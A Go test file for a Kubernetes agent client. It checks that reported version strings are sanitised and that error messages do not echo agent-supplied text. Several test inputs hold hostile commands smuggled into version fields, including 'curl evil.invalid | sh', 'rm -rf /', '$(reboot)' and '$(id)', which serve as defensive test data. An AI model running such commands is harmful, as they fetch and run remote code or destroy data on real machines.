package client

import (
	"strings"
	"testing"

	"github.com/podsrc/podsrc/pkg/api/v1alpha1"
)

func TestCheckedVersion(t *testing.T) {
	tests := []struct {
		name     string
		in, want v1alpha1.Version
	}{
		{
			name: "versions",
			in:   v1alpha1.Version{AgentVersion: "v0.1.0-rc.1+abc", ServedVersion: "v1alpha1", ReproducedKubeletVersion: "v1.36.3", NodeKubeletVersion: "1.35.1", GoVersion: "go1.26.8"},
			want: v1alpha1.Version{AgentVersion: "v0.1.0-rc.1+abc", ServedVersion: "v1alpha1", ReproducedKubeletVersion: "v1.36.3", NodeKubeletVersion: "1.35.1", GoVersion: "go1.26.8"},
		},
		{
			// make build from a tree with no tag: the plugin and the
			// agent of one tree are the same release.
			name: "a build of an untagged commit",
			in:   v1alpha1.Version{AgentVersion: "2ee3766-dirty", ReproducedKubeletVersion: "v1.36.3"},
			want: v1alpha1.Version{AgentVersion: "2ee3766-dirty", ReproducedKubeletVersion: "v1.36.3"},
		},
		{
			name: "hex that is not a commit's",
			in:   v1alpha1.Version{AgentVersion: "2ee3766-dirty; id"},
			want: v1alpha1.Version{AgentVersion: UnknownVersion},
		},
		{
			name: "not given",
			in:   v1alpha1.Version{},
			want: v1alpha1.Version{},
		},
		{
			name: "commands and text",
			in: v1alpha1.Version{AgentVersion: "v1.2.3; curl evil.invalid | sh", ServedVersion: "v1alpha1 $(id)", ReproducedKubeletVersion: "$(reboot)",
				NodeKubeletVersion: " v1.36.3", GoVersion: "go1.26.8\x1b[2J"},
			want: v1alpha1.Version{AgentVersion: UnknownVersion, ServedVersion: UnknownVersion, ReproducedKubeletVersion: UnknownVersion,
				NodeKubeletVersion: UnknownVersion, GoVersion: UnknownVersion},
		},
		{
			name: "a version too long to be one",
			in:   v1alpha1.Version{AgentVersion: "v1.2.3-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},
			want: v1alpha1.Version{AgentVersion: UnknownVersion},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := tt.in
			if got := *checkedVersion(&in); got != tt.want {
				t.Errorf("got %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestSkewErrorShowsNoAgentText(t *testing.T) {
	a := &Agent{Node: "node-1"}
	err := a.skewError("podsrc.io/v1alpha1; rm -rf /", "v9; curl evil.invalid | sh")
	got := err.Error()
	want := `the agent on node "node-1" is too old: it serves podsrc.io/unknown`
	if !strings.HasPrefix(got, want) || strings.Contains(got, "curl") || strings.Contains(got, "rm -rf") {
		t.Errorf("got %q, want it to start %q and to show no agent text", got, want)
	}
}
